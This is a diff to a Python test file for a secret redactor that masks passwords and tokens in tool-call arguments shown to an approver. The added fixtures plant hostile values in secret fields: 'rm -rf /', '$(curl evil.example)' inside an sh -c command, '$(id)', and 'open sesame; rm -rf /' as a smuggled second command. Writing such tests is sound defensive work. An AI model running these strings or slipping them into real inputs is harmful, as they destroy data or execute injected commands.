@@ -155,20 +155,31 @@ def test_whoever_approves_is_shown_all_but_the_secrets() -> None:
         "rows": [{"n": n, "text": "y" * 100} for n in range(500)],
         "api_key": "k",
         "deep": {"password": "p", "key": "shown", "content": long},
+        "password": "rm -rf /",
+        "secret": ["sh", "-c", {"token": "$(curl evil.example)", "auth": True}],
+        "argv": ["--token", "abc", "--token", "$(id)"],
     }
     assert REDACTOR.whole(None, given) == {
         "content": f"{long} {HIDDEN} {long}",
         "rows": given["rows"],
-        "api_key": HIDDEN,
-        "deep": {"password": HIDDEN, "key": "shown", "content": long},
+        "api_key": "[redacted, 1 character]",
+        "deep": {"password": "[redacted, 1 character]", "key": "shown", "content": long},
+        "password": "rm -rf /",
+        "secret": given["secret"],
+        "argv": ["--token", HIDDEN, "--token", "$(id)"],
     }
 
 
-def test_what_a_schema_calls_a_password_nobody_is_shown() -> None:
+def test_what_a_schema_calls_a_password_nobody_is_shown_but_what_may_act() -> None:
     schema: dict[str, object] = {
         "type": "object",
         "properties": {"phrase": {"type": "string", "format": "password"}, "max_tokens": {}},
     }
     spec = ToolSpec(name="log_in", input_schema=schema)
-    given = {"phrase": "open sesame", "max_tokens": 5}
-    assert REDACTOR.whole(spec, given) == {"phrase": HIDDEN, "max_tokens": 5}
+    given = {"phrase": "open-sesame", "max_tokens": 5}
+    hidden = "[redacted, 11 characters]"
+    assert REDACTOR.whole(spec, given) == {"phrase": hidden, "max_tokens": 5}
+    assert REDACTOR.arguments(spec, given) == {"phrase": HIDDEN, "max_tokens": 5}
+    acting = {"phrase": "open sesame; rm -rf /"}
+    assert REDACTOR.whole(spec, acting) == acting
+    assert REDACTOR.arguments(spec, acting) == {"phrase": HIDDEN}
